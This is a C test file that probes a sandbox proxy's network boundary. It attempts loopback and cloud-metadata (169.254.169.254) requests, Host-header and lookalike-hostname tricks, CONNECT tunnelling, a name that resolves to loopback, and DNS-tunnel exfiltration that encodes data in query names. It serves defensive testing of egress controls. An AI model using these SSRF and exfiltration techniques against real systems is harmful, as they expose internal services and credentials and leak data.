/* Attacks on the network boundary through brig-proxy: it may be asked for anything, and goes where
 * a rule says. That it goes there is the control of all of them (attack_allowed). */
#include "verify/attack.h"

#include "base/cleanup.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int get(struct attempt *a, const char *host, uint16_t port, const char *host_header)
{
    struct answer answer;
    int code = ask_get(host, port, "/", host_header, "", &answer);
    if (code == 0)
        attack_say(a, "%s port %u was reached: HTTP %d", host, port, answer.status);
    return code;
}

int attack_allowed(struct attempt *a)
{
    return get(a, HOST_BOUND, a->place->bound, NULL);
}

int attack_no_rule(struct attempt *a)
{
    return get(a, HOST_CLOSED, a->place->closed, NULL);
}

int attack_literal(struct attempt *a)
{
    return get(a, "127.0.0.1", a->place->closed, NULL);
}

int attack_metadata(struct attempt *a)
{
    return get(a, "169.254.169.254", 80, NULL);
}

int attack_port(struct attempt *a)
{
    return get(a, HOST_BOUND, a->place->closed, NULL);
}

/* The URL names an allowed host, the header another: which of the two is believed? */
int attack_mismatch(struct attempt *a)
{
    struct answer answer;
    int code = ask_get(HOST_PLAIN, a->place->plain, "/", HOST_CLOSED, "", &answer);
    if (code == 0 && !strstr(answer.text, "Host: " HOST_CLOSED))
        return ATTACK_NOTHING;
    if (code == 0)
        attack_say(a, "the upstream was told Host: " HOST_CLOSED);
    return code;
}

int attack_connect(struct attempt *a)
{
    char request[256];
    struct answer answer;
    snprintf(request, sizeof request,
             "CONNECT %s:%u HTTP/1.1\r\nHost: %s:%u\r\nConnection: close\r\n\r\n", HOST_CLOSED,
             a->place->closed, HOST_CLOSED, a->place->closed);
    return ask_proxy(request, &answer);
}

int attack_lookalike(struct attempt *a)
{
    int code = get(a, HOST_BOUND "." HOST_CLOSED, a->place->closed, NULL);
    return code == 0 ? 0 : get(a, HOST_BOUND "@" HOST_CLOSED, a->place->closed, NULL);
}

/* A name that a rule allows, and that leads to the host's own loopback. */
int attack_private_name(struct attempt *a)
{
    return get(a, HOST_INNER, a->place->plain, NULL);
}

static size_t dns_question(uint8_t *out, const char *name)
{
    static const uint8_t head[12] = {0x42, 0x42, 1, 0, 0, 1};
    size_t at = 2 + sizeof head;
    memcpy(out + 2, head, sizeof head);
    while (*name) {
        size_t len = strcspn(name, ".");
        out[at++] = (uint8_t)len;
        memcpy(out + at, name, len);
        at += len;
        name += len;
        name += *name == '.';
    }
    static const uint8_t tail[5] = {0, 0, 1, 0, 1};
    memcpy(out + at, tail, sizeof tail);
    at += sizeof tail;
    out[0] = (uint8_t)((at - 2) >> 8);
    out[1] = (uint8_t)(at - 2);
    return at;
}

/* Data in a name: whoever resolves it gets the data. Over TCP, which every tier serves. */
int attack_dns_tunnel(struct attempt *a)
{
    (void)a;
    uint8_t packet[256], answer[512];
    struct sockaddr_in to = {
        .sin_family = AF_INET, .sin_port = htons(53), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    size_t len = dns_question(packet, "6272696721." HOST_CLOSED);
    cleanup_fd int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) < 0)
        return errno;
    if (send(fd, packet, len, MSG_NOSIGNAL) != (ssize_t)len)
        return errno;
    ssize_t n = recv(fd, answer, sizeof answer, 0);
    /* The code of the answer: 0 would mean that somebody was asked, or made it up. */
    return n > 5 && (answer[5] & 15) == 0 ? 0 : EACCES;
}
